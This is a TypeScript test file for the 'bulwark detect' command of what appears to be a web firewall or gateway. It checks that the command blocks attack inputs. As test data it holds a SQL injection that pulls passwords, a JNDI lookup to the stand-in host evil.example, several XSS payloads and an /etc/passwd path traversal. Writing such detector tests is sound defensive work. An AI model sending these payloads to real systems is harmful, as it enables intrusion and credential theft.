// `bulwark detect` in-process: a string in each place, a whole request from a file (HTTP message and
// JSON), settings from a gateway configuration and a route override, --json, --fail-on-block, and
// the errors that name the option and the problem.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CommanderError } from 'commander';
import { runCommand } from '../../../test/helpers/cli.js';
import { BulwarkError } from '../../core/errors.js';
import { BLOCKED_EXIT_CODE, registerDetectCommand } from './detect.js';

const detect = (...args: string[]) => runCommand(registerDetectCommand, 'detect', args);
const dir = mkdtempSync(join(tmpdir(), 'bulwark-detect-'));

function file(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

async function errorOf(args: string[]): Promise<BulwarkError> {
  try {
    await detect(...args);
  } catch (error) {
    assert.ok(error instanceof BulwarkError, String(error));
    return error;
  }
  assert.fail(`bulwark detect ${args.join(' ')} did not fail`);
}

describe('bulwark detect', () => {
  it('shows the verdict, the score and each finding with its location', async () => {
    const out = await detect("1' union select password from users--");
    assert.match(out, /^BLOCKED: score \d+ of threshold 5 \(paranoia 1; 1 input inspected\)/);
    assert.match(out, /sqli\.union-select\s+critical\s+1\s+yes\s+query\.value/);
  });

  it('passes benign text and says so', async () => {
    assert.equal(await detect("O'Neil & sons: select the blue one"), 'passed: score 0 of threshold 5 (paranoia 1; 1 input inspected)\n');
  });

  it('inspects the string where --as puts it, with --name', async () => {
    const out = await detect('--as', 'header:User-Agent', '${jndi:ldap://evil.example/a}');
    assert.match(out, /jndi\.\S+.*header\.user-agent/);
    const json = JSON.parse(await detect('--as', 'json', '--name', 'comment', '--json', '<svg onload=alert(1)>')) as { blocked: boolean; findings: { location: string }[] };
    assert.equal(json.blocked, true);
    assert.equal(json.findings[0]?.location, 'body.$.comment');
  });

  it('marks matches found only after decoding', async () => {
    assert.match(await detect(encodeURIComponent(encodeURIComponent('<script>alert(1)</script>'))), /\(after decoding\)/);
  });

  it('reports rules above the blocking level as log only with --detection-paranoia', async () => {
    const out = await detect('--detection-paranoia', '3', 'select name from users');
    assert.match(out, /^passed \(with findings\): score 0 of threshold 5 \(paranoia 1, detection 3;/);
    assert.match(out, /log only/);
    assert.match(await detect('-p', '3', '--threshold', '3', 'select name from users'), /^BLOCKED/);
  });

  it('inspects a whole HTTP request from a file', async () => {
    const http = file('attack.http', [
      'POST /api/comments?page=1 HTTP/1.1', 'Host: api.example', 'Content-Type: application/json', '',
      '{"post":7,"text":"hello","author":{"bio":"<img src=x onerror=alert(document.domain)>"}}',
    ].join('\r\n'));
    const out = JSON.parse(await detect('--request', http, '--json')) as { blocked: boolean; findings: { location: string; ruleId: string }[] };
    assert.equal(out.blocked, true);
    assert.ok(out.findings.some((finding) => finding.location === 'body.$.author.bio' && finding.ruleId.startsWith('xss.')));
    const described = file('benign.json', JSON.stringify({ method: 'GET', path: '/api/search', query: 'q=union%20station', headers: { host: 'api.example' } }));
    assert.match(await detect('--request', described), /^passed: score 0/);
  });

  it('exits with status 3 under --fail-on-block when the request would be blocked', async () => {
    await assert.rejects(detect('--fail-on-block', '../../../../etc/passwd'), (error: unknown) => error instanceof CommanderError && error.exitCode === BLOCKED_EXIT_CODE);
    await detect('--fail-on-block', 'hello world');
  });

  it('takes levels, threshold and exclusions from a configuration and a route override', async () => {
    const config = file('bulwark.yaml', `server: { listeners: [{ protocol: http, host: 127.0.0.1, port: 8080 }] }
stages:
  threats:
    exclusions:
      - { rules: ['sqli.*'], locations: [query.q], reason: 'full-text search' }
routes:
  - name: api
    upstream: { url: "http://127.0.0.1:9" }
  - name: strict
    upstream: { url: "http://127.0.0.1:9" }
    stages:
      threats: { exclusions: [] }
`);
    const payload = "1' union select password from users--";
    assert.match(await detect('-c', config, '--name', 'q', payload), /^passed: score 0/);
    assert.match(await detect('-c', config, '--route', 'strict', '--name', 'q', payload), /^BLOCKED/);
    assert.match(await detect('-c', config, '--name', 'id', payload), /^BLOCKED/, 'the exclusion is for query.q only');
    assert.match((await errorOf(['-c', config, '--route', 'nope', 'x'])).message, /--route: .*no route named "nope" \(routes: api, strict\)/);
  });

  it('names the option and the problem on bad input', async () => {
    assert.match((await errorOf([])).message, /either a value to inspect or --request/);
    assert.match((await errorOf(['-p', '7', 'x'])).message, /--paranoia: "7" is not a paranoia level/);
    assert.match((await errorOf(['-p', '3', '--detection-paranoia', '2', 'x'])).message, /--detection-paranoia \(2\) must be at least/);
    assert.match((await errorOf(['--threshold', '0', 'x'])).message, /--threshold: "0"/);
    assert.match((await errorOf(['--as', 'body', 'x'])).message, /--as: "body" is not one of/);
    assert.match((await errorOf(['--route', 'api', 'x'])).message, /--route needs -c/);
    assert.match((await errorOf(['--request', join(dir, 'missing.http')])).message, /--request: cannot read .*missing\.http: ENOENT/);
    assert.match((await errorOf(['--request', file('bad.http', 'not a request')])).message, /--request .*bad\.http: /);
    const badConfig = file('bad.yaml', `server: { listeners: [{ protocol: http, host: 127.0.0.1, port: 8080 }] }
stages: { threats: { exclusions: [{ rules: ['sqli.nope'], reason: 'typo' }] } }
routes: [{ name: api, upstream: { url: "http://127.0.0.1:9" } }]
`);
    await assert.rejects(detect('-c', badConfig, 'x'), /matches no detection rule/);
  });
});
